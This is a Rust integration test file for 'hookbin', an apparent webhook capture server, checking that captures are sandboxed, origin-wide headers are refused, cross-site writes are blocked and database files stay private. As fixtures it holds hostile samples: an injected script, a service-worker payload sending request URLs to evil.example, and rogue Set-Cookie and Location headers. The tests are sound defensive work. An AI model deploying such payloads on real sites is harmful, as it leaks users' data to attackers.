//! Issue 11: a capture response can never act on the inspector's origin, and no one client can
//! starve the rest. (The browser-side half of the first point is in `ui_browser.rs`.)

use std::process::Command;

use serde_json::json;

use crate::util::{Response, Server};

fn assert_sealed(res: &Response, what: &str) {
    assert_eq!(
        res.header("content-security-policy"),
        Some("sandbox"),
        "{what}: {:?}",
        res.headers
    );
    assert_eq!(
        res.header("x-content-type-options"),
        Some("nosniff"),
        "{what}"
    );
}

#[test]
fn every_capture_response_is_sandboxed_and_no_spec_can_change_that() {
    let s = Server::start(&["--max-body-bytes", "16"]);
    let plain = s.create_bin();
    assert_sealed(
        &s.request("POST", &format!("/r/{plain}"), &[], b"x"),
        "200 ok",
    );
    assert_sealed(
        &s.request("POST", &format!("/r/{plain}"), &[], &[b'x'; 32]),
        "413",
    );
    assert_sealed(&s.get("/r/0000000000000000000a"), "unknown bin");
    let nav = s.request(
        "GET",
        &format!("/r/{plain}"),
        &[("Sec-Fetch-Mode", "navigate"), ("Accept", "text/html")],
        b"",
    );
    assert_eq!(nav.status, 303);
    assert_sealed(&nav, "navigation redirect");

    // A custom HTML page with a script: served as the spec says, but in a sandbox.
    let html = s.create_bin_with(
        &json!({"response": {"headers": [["Content-Type", "text/html"]],
                             "body": "<script>document.title='pwned'</script>"}})
        .to_string(),
    )["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let res = s.get(&format!("/r/{html}/page"));
    assert_eq!(res.status, 200);
    assert_eq!(res.header("content-type"), Some("text/html"));
    assert_sealed(&res, "custom response");

    // No spec can carry a policy of its own, or anything else that acts on the whole origin.
    for (name, value) in [
        ("Content-Security-Policy", "script-src *"),
        ("content-security-policy-report-only", "default-src *"),
        ("Service-Worker-Allowed", "/"),
        ("Clear-Site-Data", "\"*\""),
        ("Origin-Agent-Cluster", "?0"),
        ("Strict-Transport-Security", "max-age=0"),
        ("Set-Cookie", "session=x; Path=/"),
        ("Location", "https://evil.example/"),
    ] {
        let spec = json!({"headers": [[name, value]]}).to_string();
        let res = s.request(
            "PUT",
            &format!("/api/bins/{plain}/response"),
            &[("Content-Type", "application/json")],
            spec.as_bytes(),
        );
        res.assert_error(422, "invalid_response");
        assert!(
            res.json()["error"]["message"].as_str().unwrap().contains(
                if name == "Set-Cookie" || name == "Location" {
                    name
                } else {
                    "headers[0][0]"
                }
            ),
            "{name}: {}",
            res.text()
        );
        let res = s.post_json(
            "/api/bins",
            &json!({"response": {"headers": [[name, value]]}}).to_string(),
        );
        res.assert_error(422, "invalid_response");
    }
    // Cookies and redirects inside the bin stay possible, from creation on.
    let created = s.create_bin_with(r#"{"response": {"status": 302}}"#);
    let bin = created["id"].as_str().unwrap();
    let spec = json!({"status": 302, "headers": [
        ["Set-Cookie", format!("seen=1; Path=/r/{bin}; HttpOnly")],
        ["Location", format!("/r/{bin}/next")],
    ]})
    .to_string();
    let res = s.request(
        "PUT",
        &format!("/api/bins/{bin}/response"),
        &[("Content-Type", "application/json")],
        spec.as_bytes(),
    );
    assert_eq!(res.status, 200, "{}", res.text());
    let res = s.get(&format!("/r/{bin}"));
    assert_eq!(res.status, 302);
    assert_eq!(
        res.header("location"),
        Some(format!("/r/{bin}/next").as_str())
    );
    assert_sealed(&res, "redirect inside the bin");
}

#[test]
fn service_worker_script_fetches_are_refused_and_not_recorded() {
    let s = Server::start(&[]);
    let bin = s.create_bin_with(
        &json!({"response": {"headers": [["Content-Type", "text/javascript"]],
                             "body": "self.onfetch = e => fetch('https://evil.example/?' + e.request.url)"}})
        .to_string(),
    )["id"]
        .as_str()
        .unwrap()
        .to_owned();
    for headers in [
        &[
            ("Service-Worker", "script"),
            ("Sec-Fetch-Dest", "serviceworker"),
        ][..],
        &[
            ("Sec-Fetch-Dest", "script"),
            ("Sec-Fetch-Site", "same-origin"),
        ][..],
    ] {
        let res = s.request("GET", &format!("/r/{bin}/sw.js"), headers, b"");
        res.assert_error(403, "worker_script_refused");
        assert_eq!(res.header("x-request-id"), None);
        assert_sealed(&res, "refusal");
    }
    assert_eq!(
        s.get(&format!("/api/bins/{bin}")).json()["request_count"],
        0
    );
    // The same script as a plain capture (a webhook, or another site's <script>) is recorded.
    let res = s.request(
        "GET",
        &format!("/r/{bin}/sw.js"),
        &[
            ("Sec-Fetch-Dest", "script"),
            ("Sec-Fetch-Site", "cross-site"),
        ],
        b"",
    );
    assert_eq!(res.status, 200);
    assert_eq!(
        s.get(&format!("/api/bins/{bin}")).json()["request_count"],
        1
    );
}

#[test]
fn every_response_says_nosniff() {
    let s = Server::start(&[]);
    let bin = s.create_bin();
    let id = s.capture(&bin, b"x");
    let mut stream = s.connect();
    std::io::Write::write_all(
        &mut stream,
        format!("GET /api/bins/{bin}/stream HTTP/1.1\r\nHost: h\r\n\r\n").as_bytes(),
    )
    .unwrap();
    let stream_head =
        crate::util::read_head(&mut std::io::BufReader::new(stream)).expect("stream head");
    let mut answers = vec![
        ("stream", stream_head),
        (
            "curl",
            s.get(&format!("/api/bins/{bin}/requests/{id}/curl")),
        ),
        ("healthz", s.get("/healthz")),
        ("metrics", s.get("/metrics")),
        ("static", s.get("/static/app.css")),
        ("page", s.get(&format!("/bins/{bin}"))),
        ("page 404", s.get("/nowhere")),
        ("api 404", s.get("/api/nowhere")),
        ("api 405", s.request("PATCH", "/api/bins", &[], b"")),
        (
            "export",
            s.get(&format!("/api/bins/{bin}/export?format=har")),
        ),
        (
            "capture",
            s.request("POST", &format!("/r/{bin}"), &[], b"x"),
        ),
        (
            "no content",
            s.delete(&format!("/api/bins/{bin}/requests/{id}")),
        ),
    ];
    answers.push(("head", s.request("HEAD", "/healthz", &[], b"")));
    for (what, res) in answers {
        assert_eq!(
            res.header("x-content-type-options"),
            Some("nosniff"),
            "{what}: {:?}",
            res.headers
        );
    }
}

#[test]
fn a_stored_response_with_a_header_now_refused_keeps_working_without_it() {
    if !crate::backup::sqlite3_installed() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("h.db");
    let (bin, broken) = {
        let mut s = Server::start_on(&db, &[]);
        let bin = s.create_bin_with(
            r#"{"response": {"status": 201, "headers": [["X-Kept", "yes"]], "body": "made"}}"#,
        )["id"]
            .as_str()
            .unwrap()
            .to_owned();
        let broken = s.create_bin_with(r#"{"response": {"status": 202}}"#)["id"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(s.signal("TERM").success());
        (bin, broken)
    };
    // As an older hookbin would have stored them: origin-wide headers, and a damaged spec.
    let old = json!({"status": 201, "headers": [
        ["Service-Worker-Allowed", "/"], ["X-Kept", "yes"], ["Set-Cookie", "a=1; Path=/"],
        ["Content-Security-Policy", "script-src *"]],
        "body": "made", "delay_ms": 0})
    .to_string();
    let sql = format!(
        "UPDATE bins SET response = '{old}' WHERE id = '{bin}';
         UPDATE bins SET response = '{{\"status\": 1' WHERE id = '{broken}';"
    );
    let ok = Command::new("sqlite3")
        .arg(&db)
        .arg(sql)
        .status()
        .unwrap()
        .success();
    assert!(ok);

    let s = Server::start_on(&db, &[]);
    let res = s.request("POST", &format!("/r/{bin}"), &[], b"x");
    assert_eq!((res.status, res.text().as_str()), (201, "made"));
    assert_eq!(res.header("x-kept"), Some("yes"));
    assert_eq!(res.header("service-worker-allowed"), None);
    assert_eq!(res.header("set-cookie"), None);
    assert_sealed(&res, "old spec");
    // The API shows what is served.
    let shown = s.get(&format!("/api/bins/{bin}")).json();
    assert_eq!(shown["response"]["headers"], json!([["X-Kept", "yes"]]));
    // A spec that cannot be read at all is ignored: the bin answers 200 ok.
    let res = s.request("POST", &format!("/r/{broken}"), &[], b"x");
    assert_eq!((res.status, res.text().as_str()), (200, "ok"));
    let log = s.log();
    assert!(
        log.contains("Service-Worker-Allowed") && log.contains("no longer sent"),
        "{log}"
    );
    assert!(log.contains("cannot be read"), "{log}");
}

/// One request with an explicit `Host` (and more headers).
fn on_host(s: &Server, method: &str, path: &str, host: &str, extra: &str, body: &[u8]) -> Response {
    let mut raw = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    raw.extend_from_slice(body);
    s.raw(&raw)
}

#[test]
fn a_capture_host_of_its_own_keeps_captures_off_the_inspectors_origin() {
    const CAPTURE: &str = "in.hookbin.test";
    let s = Server::start(&["--capture-url", "http://in.hookbin.test/"]);
    let inspector = s.addr.to_string();
    // Bins are created on the inspector; their URL points at the capture host.
    let created = s.create_bin_with("");
    let bin = created["id"].as_str().unwrap().to_owned();
    assert_eq!(created["url"], format!("http://{CAPTURE}/r/{bin}"));
    assert_eq!(
        created["inspect_url"],
        format!("http://{inspector}/bins/{bin}")
    );

    // The capture host records; the inspector's host refuses, and records nothing.
    let res = on_host(&s, "POST", &format!("/r/{bin}/hook"), CAPTURE, "", b"hi");
    assert_eq!(res.status, 200, "{}", res.text());
    assert_sealed(&res, "capture host");
    let id = res.header("x-request-id").unwrap().to_owned();
    let res = on_host(&s, "POST", &format!("/r/{bin}/hook"), &inspector, "", b"hi");
    res.assert_error(421, "wrong_host");
    assert!(
        res.text().contains(&format!("http://{CAPTURE}/r/{bin}")),
        "{}",
        res.text()
    );
    assert_eq!(res.header("x-request-id"), None);
    assert_sealed(&res, "refusal");
    let res = on_host(
        &s,
        "GET",
        &format!("/r/{bin}"),
        "IN.hookbin.test:80",
        "",
        b"",
    );
    assert_eq!(
        res.status, 200,
        "the host matches in any case, default port or not"
    );
    assert_eq!(
        s.get(&format!("/api/bins/{bin}")).json()["request_count"],
        2
    );
    // A browser opening the bin URL on the inspector's host still lands on the inspector.
    let res = on_host(
        &s,
        "GET",
        &format!("/r/{bin}"),
        &inspector,
        "Sec-Fetch-Mode: navigate\r\nAccept: text/html\r\n",
        b"",
    );
    assert_eq!(res.status, 303);
    assert_eq!(
        res.header("location"),
        Some(format!("/bins/{bin}").as_str())
    );

    // The capture host serves nothing else but the health check.
    for path in [
        "/".to_owned(),
        format!("/bins/{bin}"),
        format!("/api/bins/{bin}"),
        format!("/api/bins/{bin}/stream"),
        "/static/app.js".to_owned(),
        "/metrics".to_owned(),
    ] {
        on_host(&s, "GET", &path, CAPTURE, "", b"").assert_error(404, "capture_host_only");
    }
    on_host(&s, "POST", "/api/bins", CAPTURE, "", b"").assert_error(404, "capture_host_only");
    assert_eq!(on_host(&s, "GET", "/healthz", CAPTURE, "", b"").status, 200);

    // Pages, copy-as-curl and exports name the capture host.
    let page = s.get(&format!("/bins/{bin}")).text();
    assert!(
        page.contains(&format!("http://{CAPTURE}/r/{bin}")),
        "{page}"
    );
    let curl = s.get(&format!("/api/bins/{bin}/requests/{id}/curl")).text();
    assert!(
        curl.contains(&format!("'http://{CAPTURE}/r/{bin}/hook'")),
        "{curl}"
    );
    let har = s.get(&format!("/api/bins/{bin}/export?format=har")).json();
    assert_eq!(
        har["log"]["entries"][0]["request"]["url"],
        format!("http://{CAPTURE}/r/{bin}/hook")
    );
}

#[test]
fn behind_a_proxy_the_forwarded_host_tells_the_hosts_apart() {
    let s = Server::start(&["--capture-url", "https://in.hookbin.test", "--trust-proxy"]);
    let bin = s.create_bin();
    // nginx sets X-Forwarded-Host to the host the client asked for, whatever Host says.
    let to = |forwarded: &str| {
        on_host(
            &s,
            "POST",
            &format!("/r/{bin}"),
            "upstream",
            &format!("X-Forwarded-Host: {forwarded}\r\nX-Forwarded-Proto: https\r\n"),
            b"x",
        )
    };
    assert_eq!(to("in.hookbin.test").status, 200);
    assert_eq!(to("in.hookbin.test:443").status, 200);
    to("webhook.hookbin.test").assert_error(421, "wrong_host");
    to("in.hookbin.test:8443").assert_error(421, "wrong_host");
}

#[test]
fn the_database_and_its_wal_are_private_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let s = Server::start_with_umask(0o000, &[]);
    let bin = s.create_bin();
    s.capture(&bin, b"a secret webhook");
    for suffix in ["", "-wal", "-shm"] {
        let mut path = s.db.clone().into_os_string();
        path.push(suffix);
        let mode = std::fs::metadata(&path)
            .unwrap_or_else(|e| panic!("{path:?}: {e}"))
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600, "{path:?} is {mode:o}");
    }
}

#[test]
fn other_sites_pages_cannot_change_anything() {
    let s = Server::start(&[]);
    let own = format!("http://{}", s.addr);
    let bin = s.create_bin();
    let foreign: [&[(&str, &str)]; 4] = [
        &[("Sec-Fetch-Site", "cross-site")],
        &[("Origin", "https://evil.example")],
        &[("Origin", "null")],
        &[("Origin", "http://127.0.0.1:1")],
    ];
    for headers in foreign {
        // Every state-changing API call, including the no-cors form of creating a bin.
        let with_type: Vec<(&str, &str)> = headers
            .iter()
            .copied()
            .chain([("Content-Type", "text/plain")])
            .collect();
        s.request("POST", "/api/bins", &with_type, b"")
            .assert_error(403, "cross_site_request");
        s.request("DELETE", &format!("/api/bins/{bin}"), headers, b"")
            .assert_error(403, "cross_site_request");
        s.request(
            "PUT",
            &format!("/api/bins/{bin}/response"),
            &with_type,
            br#"{"status": 500}"#,
        )
        .assert_error(403, "cross_site_request");
        s.request("DELETE", &format!("/api/bins/{bin}/requests"), headers, b"")
            .assert_error(403, "cross_site_request");
        // Forms, too.
        let form = s.request(
            "POST",
            "/bins",
            &[
                headers,
                &[("Content-Type", "application/x-www-form-urlencoded")],
            ]
            .concat(),
            b"",
        );
        assert_eq!(form.status, 403, "{headers:?}: {}", form.text());
        let form = s.request("POST", &format!("/bins/{bin}/delete"), headers, b"");
        assert_eq!(form.status, 403, "{headers:?}");
        // Reading stays open (CORS decides what a page may see), and captures are for anyone.
        assert_eq!(
            s.request("GET", &format!("/api/bins/{bin}"), headers, b"")
                .status,
            200
        );
        assert_eq!(
            s.request("POST", &format!("/r/{bin}"), headers, b"x")
                .status,
            200
        );
    }
    assert_eq!(
        s.get(&format!("/api/bins/{bin}")).json()["response"],
        serde_json::Value::Null
    );
    assert!(
        s.get("/metrics")
            .text()
            .contains("hookbin_bins_created_total 1\n")
    );
    // The server's own pages, and clients that are no browser, are served.
    for headers in [
        &[("Origin", own.as_str()), ("Sec-Fetch-Site", "same-origin")][..],
        &[],
    ] {
        assert_eq!(s.request("POST", "/api/bins", headers, b"").status, 201);
        assert_eq!(s.request("POST", "/bins", headers, b"").status, 303);
    }
}
